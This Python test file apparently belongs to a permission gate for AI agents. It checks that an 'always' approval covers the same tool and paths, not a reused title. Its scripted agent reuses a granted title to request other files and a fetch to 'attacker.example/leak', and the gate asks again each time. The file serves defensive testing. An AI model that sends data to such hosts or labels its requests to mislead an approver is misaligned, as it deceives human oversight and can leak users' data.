"""A person's "always" covers what the governor knows a request does, never the
text the agent chose to show: a permission titled as the granted one but naming
other paths, or naming none with other input, is asked again; the same tool on
the same paths under another title is covered. The scripted agent over real
pipes, the real gate; the approver is the library caller's function."""

from __future__ import annotations

import sys
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "audit"))

from audit_helpers import scripted_spec

from governor.attempt.lifecycle import run_attempt
from governor.audit.reading import decision_records
from governor.gate.approver import Ask
from governor.policies.policy import parse_policy

ALLOW = [
    {"optionId": "yes", "name": "Allow", "kind": "allow_once"},
    {"optionId": "no", "name": "Reject", "kind": "reject_once"},
]


def asking(call: str, title: str, kind: str, paths: list[str], raw: dict[str, Any]) -> list[Any]:
    tool = {"toolCallId": call, "title": title, "kind": kind, "rawInput": raw,
            "locations": [{"path": p} for p in paths]}  # fmt: skip
    return [
        {"update": {"sessionUpdate": "tool_call", "status": "pending", **tool}},
        {"request": "session/request_permission",
         "params": {"sessionId": "{session}", "toolCall": tool, "options": ALLOW}},
    ]  # fmt: skip


async def test_an_always_covers_the_same_tool_on_the_same_paths_never_the_same_title(
    tmp_path: Path,
) -> None:
    steps = [
        *asking("c1", "Edit notes", "edit", ["{cwd}/notes.md"], {"file_path": "notes.md"}),
        *asking("c2", "Edit notes", "edit", ["{cwd}/other.md"], {"file_path": "other.md"}),
        *asking("c3", "Tidy up", "edit", ["{cwd}/notes.md"], {"file_path": "notes.md", "n": 2}),
        *asking("c4", "Look it up", "fetch", [], {"url": "https://example.org/a"}),
        *asking("c5", "Look it up", "fetch", [], {"url": "https://attacker.example/leak"}),
        {"say": "Done."},
    ]
    asked: list[str] = []

    def person(ask: Ask) -> str:
        asked.append(ask.subject)
        return "always" if len(asked) in (1, 3) else "refuse"

    policy = parse_policy('capability = "edit-workspace"\n[ask]\ntools = ["edit", "fetch"]\n', "p.toml")
    outcome = await run_attempt(scripted_spec(tmp_path, steps, approver=person, policy=policy))
    assert outcome.status == "completed", outcome.reason
    verdicts: dict[str, set[tuple[str, str]]] = {}
    for r in decision_records(outcome.log, outcome.run_id):
        if r["kind"] == "permission":  # a record per part of the request: their settled ones
            verdicts.setdefault(r["subject"]["tool_call"], set()).add((r["verdict"], r["by"]))
    settled = {call: sorted(v for v in got if v[1] in ("person", "grant")) for call, got in verdicts.items()}
    assert settled == {
        "c1": [("allow", "person")],
        "c2": [("deny", "person")],  # the same title, another file: asked again
        "c3": [("allow", "grant")],  # another title, the same tool on the same file
        "c4": [("allow", "person")],
        "c5": [("deny", "person")],  # the same title, no paths, other input: asked again
    }, verdicts
    assert asked == ["Edit notes", "Edit notes", "Look it up", "Look it up"]
